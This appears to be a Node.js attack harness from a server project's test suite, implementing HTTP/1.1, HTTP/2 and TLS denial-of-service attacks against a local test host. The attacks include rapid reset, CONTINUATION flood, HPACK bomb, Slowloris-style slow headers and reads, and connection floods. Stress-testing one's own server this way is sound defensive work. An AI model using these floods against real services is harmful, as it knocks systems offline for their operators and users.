// The attacker: a process that does one thing from one address for as long as it is let.
//   node attackers.mjs '{"name":…,"port":…,"tls":…,"address":…}'
import net from 'node:net';
import { fileURLToPath } from 'node:url';
import tls from 'node:tls';

import { continuation, data, frame, get, headers, kPreface, kSetting, ping, post, reset, settings, settingsAck, windowUpdate } from '../../tests/support/h2_raw.mjs';
import { encode, indexed, literal } from '../../tests/support/hpack.mjs';

const kGet = 'GET /v1/orders/42?x=1 HTTP/1.1\r\nHost: api.example.test\r\n';
const odd = (i) => 2 * i + 1;
const order = (extra = [], method = get) => method('/v1/orders/42', extra, { authority: 'api.example.test' });
const whole = (i, extra = []) => headers(odd(i), order(extra), { end: true });

/** `count` connections at a time, each made anew as soon as it ends. `begin(socket)` when it stands. */
function crowd(task, count, begin, { secure = false, again = 1 } = {}) {
  const one = () => {
    const options = { port: secure ? task.tls : task.port, host: '127.0.0.1', localAddress: task.address };
    const socket = secure ? tls.connect({ ...options, rejectUnauthorized: false }) : net.connect(options);
    socket.on('error', () => {});
    socket.once(secure ? 'secureConnect' : 'connect', () => begin(socket));
    socket.once('close', () => setTimeout(one, again));
  };
  for (let i = 0; i < count; i += 1) one();
}

const drip = (socket, bytes, every) => {
  const timer = setInterval(() => socket.write(bytes), every);
  socket.once('close', () => clearInterval(timer));
};

/** As fast as the socket takes it: `unit(i)` are the bytes of one turn. */
function pour(socket, unit, burst = 64) {
  let i = 0;
  socket.resume();
  const more = () => {
    if (socket.destroyed) return;
    const bytes = Buffer.concat(Array.from({ length: burst }, () => [unit(i++)].flat()).flat().map((piece) => Buffer.from(piece)));
    if (socket.write(bytes)) setImmediate(more);
    else socket.once('drain', more);
  };
  more();
}

/** A flood on a few connections of HTTP/2. */
const h2 = (unit, { first = () => [], ours = [], burst } = {}) => (task) =>
  crowd(task, 4, (socket) => {
    socket.write(Buffer.concat([kPreface, settings(ours), settingsAck(), ...[first()].flat()]));
    pour(socket, unit, burst);
  });

const bomb = Buffer.concat([encode(order()), Buffer.alloc(16_000, indexed(62))]);

export const attacks = {
  'rapid reset': h2((i) => [whole(i), reset(odd(i))]),
  'MadeYouReset': h2((i) => [whole(i), windowUpdate(odd(i), 0)]),
  'CONTINUATION flood': h2((i) => continuation(1, [[`x-${i}`, 'y']], { endHeaders: false }), { first: () => headers(1, order(), { end: true, endHeaders: false }) }),
  'HPACK bomb': h2((i) => headers(odd(i + 1), bomb, { end: true }), { burst: 2, first: () => headers(1, Buffer.concat([encode(order()), literal('x-bomb', 'a'.repeat(3900), { form: 'incremental' })]), { end: true }) }),
  'cookie crumbs': h2((i) => headers(odd(i), Buffer.concat([encode(order()), ...Array.from({ length: 4000 }, () => literal(32, 'a'))]), { end: true }), { burst: 2 }),
  'small frames': h2(() => data(1, 'x'), { first: () => headers(1, order([], post)) }),
  'empty DATA': h2(() => data(1, ''), { first: () => headers(1, order([], post)) }),
  'ping flood': h2(() => ping()),
  'settings flood': h2(() => settings([[kSetting.INITIAL_WINDOW_SIZE, 1000]])),
  'unknown frames': h2((i) => frame(0x20 + (i % 200), 0, 0, 'x')),
  'window stalls': (task) =>
    crowd(task, 200, (socket) => {
      socket.resume();
      socket.write(Buffer.concat([kPreface, settings([[kSetting.INITIAL_WINDOW_SIZE, 0]]), settingsAck(), ...Array.from({ length: 100 }, (_, i) => whole(i))]));
    }),
  'slow heads': (task) =>
    crowd(task, 1000, (socket) => {
      socket.write(kGet);
      drip(socket, 'X: y\r\n', 1000);
    }),
  'slow bodies': (task) =>
    crowd(task, 1000, (socket) => {
      socket.write('POST /v1/orders/42 HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 1000000\r\n\r\n');
      drip(socket, 'x', 1000);
    }),
  'slow reads': (task) =>
    crowd(task, 200, (socket) => {
      socket.pause();
      socket.write(`${kGet}\r\n`.repeat(2000));
    }),
  'half-open handshakes': (task) => crowd({ ...task, port: task.tls }, 1000, (socket) => socket.write(Buffer.from('1603010200010001fc0303', 'hex'))),
  'handshake flood': (task) => crowd(task, 16, (socket) => socket.destroy(), { secure: true }),
  'broken handshakes': (task) => crowd({ ...task, port: task.tls }, 64, (socket) => socket.resume().write(`${kGet}\r\n`)),
  'connection flood': (task) => crowd(task, 64, (socket) => socket.destroy()),
  'silent connections': (task) => crowd(task, 2000, (socket) => socket.resume(), { again: 50 }),
  'request flood': (task) => crowd(task, 32, (socket) => pour(socket, () => `${kGet}\r\n`, 16)),
  'malformed requests': (task) => crowd(task, 32, (socket) => pour(socket, () => `${kGet}Transfer-Encoding: x\r\n\r\n`, 1)),
  'argument explosion': (task) => crowd(task, 8, (socket) => pour(socket, () => `GET /v1/orders/42?${'a=1&'.repeat(5000)} HTTP/1.1\r\nHost: api.example.test\r\n\r\n`, 1)),
  'header explosion': (task) => crowd(task, 8, (socket) => pour(socket, () => `${kGet}${'X: y\r\n'.repeat(4000)}\r\n`, 1)),
};

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const task = JSON.parse(process.argv[2]);
  if (task.name === 'nothing') for (;;); // the baseline: the same share of the machine, burnt
  attacks[task.name](task);
}
